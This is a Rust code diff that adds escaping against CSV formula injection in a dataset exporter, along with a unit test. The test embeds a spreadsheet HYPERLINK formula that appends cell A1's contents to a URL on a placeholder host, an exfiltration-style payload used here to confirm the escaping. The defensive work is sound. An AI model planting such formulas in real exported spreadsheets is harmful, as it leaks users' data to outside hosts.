@@ -103,7 +103,7 @@ impl Dataset {
         let mut w = csv::Writer::from_writer(Vec::new());
         w.write_record(&self.columns).map_err(e)?;
         for r in &self.rows {
-            w.write_record(r.iter().map(cell)).map_err(e)?;
+            w.write_record(r.iter().map(csv_cell)).map_err(e)?;
         }
         String::from_utf8(w.into_inner().map_err(|e| Error::Storage(e.to_string()))?)
             .map_err(|e| Error::Storage(e.to_string()))
@@ -117,6 +117,19 @@ pub fn cell(v: &Value) -> String {
         Value::String(s) => s.clone(),
         Value::Array(a) => a.iter().map(cell).collect::<Vec<_>>().join("; "),
         other => other.to_string(),
+    }
+}
+
+/// A value as a CSV cell that a spreadsheet shows as text: text starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return (a formula to Excel or LibreOffice) gets a leading `'`. Only
+/// text is touched (numbers stay numbers); the JSON files keep every value verbatim.
+pub fn csv_cell(v: &Value) -> String {
+    let c = cell(v);
+    match v {
+        Value::String(_) | Value::Array(_) if c.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
+            format!("'{c}")
+        }
+        _ => c,
     }
 }
 
@@ -174,4 +187,25 @@ pub async fn query(
         columns: cols.iter().map(|c| c.name().to_string()).collect(),
         rows: out,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn security_csv_cells_never_start_a_formula() {
+        let mut d = Dataset::derived("x", "", "", &["reason", "n"]);
+        d.rows.push(vec![
+            Value::from("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+            Value::from(-3),
+        ]);
+        d.rows.push(vec![Value::from("@SUM(1)"), Value::from(1)]);
+        d.rows.push(vec![Value::from("fine"), Value::from(2)]);
+        let csv = d.to_csv().unwrap();
+        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+        assert!(csv.contains("'@SUM(1),1"), "{csv}");
+        assert!(csv.contains(",-3\n") && csv.contains("fine,2"), "{csv}");
+        assert!(d.to_json().contains("\"=HYPERLINK("));
+    }
 }
